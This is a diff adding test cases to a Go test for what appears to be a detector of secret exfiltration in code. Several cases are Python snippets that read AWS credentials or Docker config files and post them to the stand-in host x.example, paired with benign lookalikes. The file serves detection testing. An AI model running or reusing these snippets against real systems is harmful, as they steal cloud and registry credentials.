@@ -308,6 +308,12 @@ func TestChainsImportsPaths(t *testing.T) {
 		{"import { join } from 'node:path';\nimport { readFileSync } from 'fs';\nconst c = readFileSync(join('docs', 'a.md'), 'utf8');\nfetch('https://x.example', {method: 'POST', body: c});\n", JS, ""},
 		{"import requests\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nrequests.post('https://x.example', data=p.read_text())\n", Python, "secret-send"},
 		{"import requests\nfrom pathlib import Path\np = Path('docs') / 'index.md'\nrequests.post('https://x.example', data=p.read_text())\n", Python, ""},
+		// A parser object filled from a file holds the file.
+		{"import configparser, json, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post('https://x.example', data=json.dumps({s: dict(cfg[s]) for s in cfg.sections()}))\n", Python, "secret-send"},
+		{"import configparser, json, requests\ncfg = configparser.ConfigParser()\ncfg.read('setup.cfg')\nrequests.post('https://x.example', data=json.dumps({s: dict(cfg[s]) for s in cfg.sections()}))\n", Python, ""},
+		// A setting read from the environment is its default when unset.
+		{"import json, os, socket\nfrom pathlib import Path\nd = Path(os.environ.get('DOCKER_CONFIG', Path.home() / '.docker'))\nc = json.loads((d / 'config.json').read_text())\ns = socket.create_connection(('x.example', 7001))\ns.sendall(json.dumps(c).encode())\n", Python, "secret-send"},
+		{"import json, os, socket\nfrom pathlib import Path\nd = Path(os.environ.get('APP_HOME', 'data'))\nc = json.loads((d / 'config.json').read_text())\ns = socket.create_connection(('x.example', 7001))\ns.sendall(json.dumps(c).encode())\n", Python, ""},
 	}
 	for _, c := range cases {
 		if got := kinds(c.src, c.lang); got != c.want {
